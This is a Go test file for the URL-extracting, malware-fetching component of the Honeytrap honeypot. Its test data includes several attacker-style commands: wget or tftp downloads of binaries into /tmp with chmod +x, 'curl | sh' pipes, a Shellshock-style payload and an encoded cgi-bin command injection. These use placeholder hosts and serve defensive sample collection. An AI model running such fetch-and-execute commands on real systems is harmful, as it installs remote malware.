@@ -0,0 +1,303 @@
+/*
+* Honeytrap
+* Copyright (C) 2016-2017 DutchSec (https://dutchsec.com/)
+*
+* This program is free software; you can redistribute it and/or modify it under
+* the terms of the GNU Affero General Public License version 3 as published by the
+* Free Software Foundation.
+*
+* This program is distributed in the hope that it will be useful, but WITHOUT
+* ANY WARRANTY; without even the implied warranty of MERCHANTABILITY or FITNESS
+* FOR A PARTICULAR PURPOSE.  See the GNU Affero General Public License for more
+* details.
+*
+* You should have received a copy of the GNU Affero General Public License
+* version 3 along with this program in the file "LICENSE".  If not, see
+* <http://www.gnu.org/licenses/agpl-3.0.txt>.
+*
+* See https://honeytrap.io/ for more details. All requests should be sent to
+* licensing@honeytrap.io
+*
+* The interactive user interfaces in modified source and object code versions
+* of this program must display Appropriate Legal Notices, as required under
+* Section 5 of the GNU Affero General Public License version 3.
+*
+* In accordance with Section 7(b) of the GNU Affero General Public License version 3,
+* these Appropriate Legal Notices must retain the display of the "Powered by
+* Honeytrap" logo and retain the original copyright notice. If the display of the
+* logo is not reasonably feasible for technical reasons, the Appropriate Legal Notices
+* must display the words "Powered by Honeytrap" and retain the original copyright notice.
+ */
+package fetcher
+
+import (
+	"context"
+	"encoding/binary"
+	"fmt"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"reflect"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/honeytrap/honeytrap/artifacts"
+	"github.com/honeytrap/honeytrap/enrichers"
+	"github.com/honeytrap/honeytrap/event"
+	"github.com/honeytrap/honeytrap/pushers"
+)
+
+func TestExtract(t *testing.T) {
+	for s, expected := range map[string][]string{
+		"cd /tmp; wget http://192.0.2.1/bins.sh; chmod +x bins.sh":     {"http://192.0.2.1/bins.sh"},
+		"cd /tmp || cd /var/run; busybox wget 192.0.2.1:8080/x86 -O x": {"http://192.0.2.1:8080/x86"},
+		"curl -s -O 'HTTPS://Example.COM/a.sh#x'|sh":                   {"https://example.com/a.sh"},
+		"tftp -g -r mips 192.0.2.2; tftp 192.0.2.3 -c get arm7":        {"tftp://192.0.2.2/mips", "tftp://192.0.2.3/arm7"},
+		"/cgi-bin/x?cmd=wget%20http%3A%2F%2F192.0.2.4%2Fa":             {"http://192.0.2.4/a"},
+		"() { :; }; /bin/bash -c \"wget http://192.0.2.5/s -O-|sh\"":   {"http://192.0.2.5/s"},
+		"uname -a; echo http://":                                       {},
+		"tftp://8.8.8.8 tftp://8.8.8.8/ tftp://8.8.8.8:69":             {},
+	} {
+		if urls := Extract(s); !reflect.DeepEqual(urls, expected) {
+			t.Errorf("Expected %v for %q, got %v", expected, s, urls)
+		}
+	}
+}
+
+// tftpServer serves data for every read request, in blocks of 512 bytes.
+func tftpServer(t *testing.T, data []byte) *net.UDPConn {
+	pc, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	go func() {
+		buf := make([]byte, 1024)
+
+		_, client, err := pc.ReadFromUDP(buf)
+		if err != nil {
+			return
+		}
+
+		for block := 0; block*512 <= len(data); block++ {
+			end := (block + 1) * 512
+			if end > len(data) {
+				end = len(data)
+			}
+
+			packet := make([]byte, 4, 516)
+			binary.BigEndian.PutUint16(packet[0:], tftpDATA)
+			binary.BigEndian.PutUint16(packet[2:], uint16(block+1))
+			packet = append(packet, data[block*512:end]...)
+
+			pc.WriteToUDP(packet, client)
+
+			if _, _, err := pc.ReadFromUDP(buf); err != nil {
+				return
+			}
+		}
+	}()
+
+	return pc
+}
+
+type events chan event.Event
+
+func (c events) Send(e event.Event) {
+	c <- e
+}
+
+func (c events) next(t *testing.T) event.Event {
+	select {
+	case e := <-c:
+		return e
+	case <-time.After(5 * time.Second):
+		t.Fatal("Expected download event")
+		return event.Event{}
+	}
+}
+
+func TestFetcher(t *testing.T) {
+	payload := []byte("#!/bin/sh\necho malware\n")
+
+	var requests int32
+
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		atomic.AddInt32(&requests, 1)
+
+		switch r.URL.Path {
+		case "/bins.sh":
+			w.Write(payload)
+		case "/large":
+			w.Write(make([]byte, 2048))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer ts.Close()
+
+	tftp := tftpServer(t, make([]byte, 1000))
+	defer tftp.Close()
+
+	dir, err := ioutil.TempDir("", "fetcher")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	store, err := artifacts.Open(artifacts.Config{
+		Path:            dir,
+		MaxSize:         1 << 20,
+		MaxArtifactSize: 1 << 20,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	c := events(make(chan event.Event, 10))
+
+	en, err := New(
+		enrichers.WithChannel(c),
+		enrichers.WithArtifacts(store),
+		func(e enrichers.Enricher) error {
+			e.(*Fetcher).AllowPrivate = true
+			e.(*Fetcher).MaxSize = 1024
+			return nil
+		},
+	)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer en.(*Fetcher).Close()
+
+	host := strings.TrimPrefix(ts.URL, "http://")
+
+	command := func(s string) event.Event {
+		return event.New(
+			event.SourceIP(net.ParseIP("192.0.2.1")),
+			event.Custom("session-id", "s1"),
+			event.Custom("command", s),
+		)
+	}
+
+	en.Enrich(command("cd /tmp; wget " + host + "/bins.sh; sh bins.sh"))
+
+	e := c.next(t)
+	if e.Get("download.status") != "ok" || e.Get("download.url") != ts.URL+"/bins.sh" {
+		t.Fatalf("Expected download of bins.sh, got %v", event.ToMap(e))
+	} else if e.Get("source-ip") != "192.0.2.1" || e.Get("session-id") != "s1" {
+		t.Errorf("Expected the connection of the command, got %v", event.ToMap(e))
+	} else if e.Get("download.mime") != "text/x-shellscript" {
+		t.Errorf("Expected shell script, got %s", e.Get("download.mime"))
+	}
+
+	if _, err := store.Stat(e.Get("download.sha256")); err != nil {
+		t.Errorf("Expected download to be stored: %s", err.Error())
+	}
+
+	// the cached result is used
+	en.Enrich(command("curl " + ts.URL + "/bins.sh | sh"))
+
+	e = c.next(t)
+	if cached, _ := e.GetBool("download.cached"); !cached || e.Get("download.status") != "ok" {
+		t.Errorf("Expected cached download, got %v", event.ToMap(e))
+	} else if n := atomic.LoadInt32(&requests); n != 1 {
+		t.Errorf("Expected 1 request, got %d", n)
+	}
+
+	en.Enrich(command("wget " + ts.URL + "/large"))
+
+	if e := c.next(t); e.Get("download.status") != "error" || e.Get("download.error") != errTooLarge.Error() {
+		t.Errorf("Expected download to exceed max-size, got %v", event.ToMap(e))
+	}
+
+	en.Enrich(command(fmt.Sprintf("tftp -g -r arm7 127.0.0.1:%d", tftp.LocalAddr().(*net.UDPAddr).Port)))
+
+	e = c.next(t)
+	if size, _ := e.GetInt("download.size"); e.Get("download.status") != "ok" || size != 1000 {
+		t.Errorf("Expected tftp download, got %v", event.ToMap(e))
+	}
+}
+
+func TestFetcherPrivate(t *testing.T) {
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		t.Error("Expected private address to be refused")
+	}))
+	defer ts.Close()
+
+	dir, err := ioutil.TempDir("", "fetcher")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	c := events(make(chan event.Event, 10))
+
+	en, err := New(
+		enrichers.WithChannel(c),
+		func(e enrichers.Enricher) error {
+			e.(*Fetcher).Path = dir
+			return nil
+		},
+	)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer en.(*Fetcher).Close()
+
+	en.Enrich(event.New(event.Custom("command", "wget "+ts.URL+"/x")))
+
+	if e := c.next(t); e.Get("download.status") != "error" || !strings.Contains(e.Get("download.error"), errPrivate.Error()) {
+		t.Errorf("Expected private address to be refused, got %v", event.ToMap(e))
+	}
+}
+
+func TestFetcherTFTPWithoutFile(t *testing.T) {
+	f := &Fetcher{Config: DefaultConfig}
+
+	for _, s := range []string{"tftp://8.8.8.8", "tftp://8.8.8.8/"} {
+		u, err := url.Parse(s)
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		if _, err := f.get(context.Background(), u); err != errNoFile {
+			t.Errorf("Expected %s to be refused, got %v", s, err)
+		}
+	}
+}
+
+func TestAllowed(t *testing.T) {
+	f := &Fetcher{Config: DefaultConfig}
+
+	for s, allowed := range map[string]bool{
+		"8.8.8.8":       true,
+		"2001:4860::1":  true,
+		"10.1.2.3":      false,
+		"172.31.0.1":    false,
+		"192.168.1.1":   false,
+		"100.64.0.1":    false,
+		"100.127.255.1": false,
+		"100.128.0.1":   true,
+		"0.1.2.3":       false,
+		"127.0.0.1":     false,
+		"169.254.1.1":   false,
+		"fd00::1":       false,
+		"::1":           false,
+	} {
+		if err := f.allowed(net.ParseIP(s)); (err == nil) != allowed {
+			t.Errorf("Expected allowed %t for %s, got %v", allowed, s, err)
+		}
+	}
+}
+
+var _ pushers.Channel = events(nil)